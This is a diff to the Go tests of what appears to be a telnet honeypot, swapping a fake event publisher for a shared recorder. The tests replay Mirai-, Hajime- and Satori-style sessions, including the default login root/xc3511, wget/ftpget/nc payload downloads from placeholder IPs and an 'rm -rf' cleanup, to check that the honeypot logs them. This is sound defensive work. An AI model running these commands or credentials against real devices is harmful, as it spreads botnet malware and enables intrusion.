@@ -12,6 +12,7 @@ import (
 
 	"github.com/honeygate/honeygate/internal/event"
 	"github.com/honeygate/honeygate/internal/sensor"
+	"github.com/honeygate/honeygate/internal/testkit/eventkit"
 )
 
 func TestNegotiationMiraiStyle(t *testing.T) {
@@ -39,11 +40,11 @@ func TestNegotiationMiraiStyle(t *testing.T) {
 	h.cl.expect("Login incorrect")
 	h.finish(t)
 
-	sizes := h.pub.ofKind(event.ClientSize)
+	sizes := h.pub.OfKind(event.ClientSize)
 	if len(sizes) != 1 || sizes[0].Width != 80 || sizes[0].Height != 24 {
 		t.Fatalf("client.size events = %+v, want one 80x24", sizes)
 	}
-	fails := h.pub.ofKind(event.LoginFailed)
+	fails := h.pub.OfKind(event.LoginFailed)
 	if len(fails) != 1 || fails[0].Username != "ro\xffot" {
 		t.Fatalf("login.failed = %+v, want username with one 0xFF", fails)
 	}
@@ -61,7 +62,7 @@ func TestNAWSFloodIsBounded(t *testing.T) {
 	h.cl.send(string(flood) + "root\r\n")
 	h.cl.expect("Password: ")
 	h.finish(t)
-	if n := len(h.pub.ofKind(event.ClientSize)); n != maxSizeEvents {
+	if n := len(h.pub.OfKind(event.ClientSize)); n != maxSizeEvents {
 		t.Fatalf("%d client.size events for 1000 resizes, want %d", n, maxSizeEvents)
 	}
 }
@@ -84,24 +85,24 @@ func TestMiraiScanner(t *testing.T) {
 	}
 	h.finish(t)
 
-	kinds := h.pub.kinds()
+	kinds := h.pub.Kinds()
 	if kinds[0] != event.SessionConnect || kinds[len(kinds)-1] != event.SessionClosed {
 		t.Fatalf("kinds = %v: want session.connect first and session.closed last", kinds)
 	}
-	ok := h.pub.ofKind(event.LoginSuccess)
+	ok := h.pub.OfKind(event.LoginSuccess)
 	if len(ok) != 1 || ok[0].Username != "root" || ok[0].Password == nil || *ok[0].Password != "xc3511" {
 		t.Fatalf("login.success = %+v", ok)
 	}
-	cmds := h.pub.ofKind(event.CommandInput)
+	cmds := h.pub.OfKind(event.CommandInput)
 	if len(cmds) != 5 || cmds[4].Input != "/bin/busybox MIRAI" || cmds[4].Output != "MIRAI: applet not found\n" {
 		t.Fatalf("command.input = %+v", cmds)
 	}
-	for _, e := range h.pub.events() {
+	for _, e := range h.pub.Events() {
 		if e.Sensor != "test-sensor" || e.Proto != "telnet" || e.SrcIP != "203.0.113.7" || e.SrcPort != 40123 || e.DstPort != 23 || e.Session != ok[0].Session || e.Family == "" {
 			t.Fatalf("common fields wrong: %+v", e)
 		}
 	}
-	closed := h.pub.ofKind(event.SessionClosed)[0]
+	closed := h.pub.OfKind(event.SessionClosed)[0]
 	if closed.Message != "client closed" || closed.Bytes == 0 {
 		t.Fatalf("session.closed = %+v", closed)
 	}
@@ -179,12 +180,12 @@ func TestMiraiLoader(t *testing.T) {
 	h.cl.cmd("rm -rf upnp; > dvrHelper; /bin/busybox ECCHI")
 	h.finish(t)
 
-	dl := h.pub.ofKind(event.FileDownload)
+	dl := h.pub.OfKind(event.FileDownload)
 	if len(dl) != 1 || dl[0].URL != url || dl[0].Tool != "wget" || dl[0].Filename != "/tmp/dvrHelper" {
 		t.Fatalf("file.download = %+v", dl)
 	}
 	// The download event follows the command.input of its line.
-	evs := h.pub.events()
+	evs := h.pub.Events()
 	for i, e := range evs {
 		if e.Kind == event.FileDownload && (evs[i-1].Kind != event.CommandInput || !strings.Contains(string(evs[i-1].Input), "wget")) {
 			t.Fatalf("file.download not right after its command: %+v", evs[i-1])
@@ -224,11 +225,11 @@ func TestHajime(t *testing.T) {
 	h.cl.send("exit\r\n")
 	h.cl.waitClosed()
 	<-h.done
-	closed := h.pub.ofKind(event.SessionClosed)
+	closed := h.pub.OfKind(event.SessionClosed)
 	if len(closed) != 1 || closed[0].Message != "client exit" {
 		t.Fatalf("session.closed = %+v", closed)
 	}
-	if n := len(h.pub.ofKind(event.LoginFailed)); n != 1 {
+	if n := len(h.pub.OfKind(event.LoginFailed)); n != 1 {
 		t.Fatalf("login.failed = %d, want 1", n)
 	}
 }
@@ -254,7 +255,7 @@ func TestSatori(t *testing.T) {
 	h.cl.cmd("cd /var; ftpget -u anon -p pw 198.51.100.21 f.bin /pub/f.bin; nc 198.51.100.22 4444 > n.bin")
 	h.finish(t)
 	var got []string
-	for _, d := range h.pub.ofKind(event.FileDownload) {
+	for _, d := range h.pub.OfKind(event.FileDownload) {
 		got = append(got, string(d.Tool+" "+d.URL+" "+d.Filename))
 	}
 	want := []string{
@@ -283,10 +284,10 @@ func TestMaxAttempts(t *testing.T) {
 	}
 	h.cl.waitClosed()
 	<-h.done
-	if n := len(h.pub.ofKind(event.LoginFailed)); n != 2 {
+	if n := len(h.pub.OfKind(event.LoginFailed)); n != 2 {
 		t.Fatalf("login.failed = %d", n)
 	}
-	if c := h.pub.ofKind(event.SessionClosed); c[0].Message != "too many login attempts" {
+	if c := h.pub.OfKind(event.SessionClosed); c[0].Message != "too many login attempts" {
 		t.Fatalf("closed = %+v", c)
 	}
 }
@@ -300,7 +301,7 @@ func TestLoginModes(t *testing.T) {
 	h.cl.expect("Login incorrect")
 	h.login(t, "me", "")
 	h.finish(t)
-	ok := h.pub.ofKind(event.LoginSuccess)
+	ok := h.pub.OfKind(event.LoginSuccess)
 	if len(ok) != 1 || ok[0].Password == nil || *ok[0].Password != "" {
 		t.Fatalf("empty password not recorded as such: %+v", ok)
 	}
@@ -317,16 +318,16 @@ func TestMaxCommands(t *testing.T) {
 	h.cl.expect("uid=0(root)")
 	h.cl.waitClosed()
 	<-h.done
-	if n := len(h.pub.ofKind(event.CommandInput)); n != 3 {
+	if n := len(h.pub.OfKind(event.CommandInput)); n != 3 {
 		t.Fatalf("command.input = %d", n)
 	}
-	if c := h.pub.ofKind(event.SessionClosed); c[0].Message != "command limit" {
+	if c := h.pub.OfKind(event.SessionClosed); c[0].Message != "command limit" {
 		t.Fatalf("closed = %+v", c)
 	}
 }
 
 func TestServerStopAndPanic(t *testing.T) {
-	pub := &fakePub{}
+	pub := &eventkit.Recorder{}
 	s, err := New(DefaultConfig(), Options{Publisher: pub, Sensor: "s"})
 	if err != nil {
 		t.Fatal(err)
@@ -367,25 +368,25 @@ func TestServerStopAndPanic(t *testing.T) {
 	if err := <-served; err != nil {
 		t.Fatal(err)
 	}
-	panics := pub.ofKind(event.SessionPanic)
+	panics := pub.OfKind(event.SessionPanic)
 	if len(panics) != 1 || panics[0].Message != "boom in shell" {
 		t.Fatalf("session.panic = %+v", panics)
 	}
 	var loginSession string
-	for _, e := range pub.ofKind(event.LoginSuccess) {
+	for _, e := range pub.OfKind(event.LoginSuccess) {
 		loginSession = e.Session
 	}
 	if panics[0].Session != loginSession {
 		t.Fatalf("panic session %q, want the panicking session %q", panics[0].Session, loginSession)
 	}
-	closed := pub.ofKind(event.SessionClosed)
+	closed := pub.OfKind(event.SessionClosed)
 	if len(closed) != 1 || closed[0].Message != "server stop" {
 		t.Fatalf("session.closed = %+v", closed)
 	}
 }
 
 func TestIdleTimeout(t *testing.T) {
-	pub := &fakePub{}
+	pub := &eventkit.Recorder{}
 	s, _ := New(DefaultConfig(), Options{Publisher: pub})
 	srv, cli := net.Pipe()
 	defer cli.Close()
@@ -398,7 +399,7 @@ func TestIdleTimeout(t *testing.T) {
 	}()
 	cl.expect("login: ")
 	<-done
-	if c := pub.ofKind(event.SessionClosed); len(c) != 1 || c[0].Message != "idle timeout" {
+	if c := pub.OfKind(event.SessionClosed); len(c) != 1 || c[0].Message != "idle timeout" {
 		t.Fatalf("closed = %+v", c)
 	}
 }
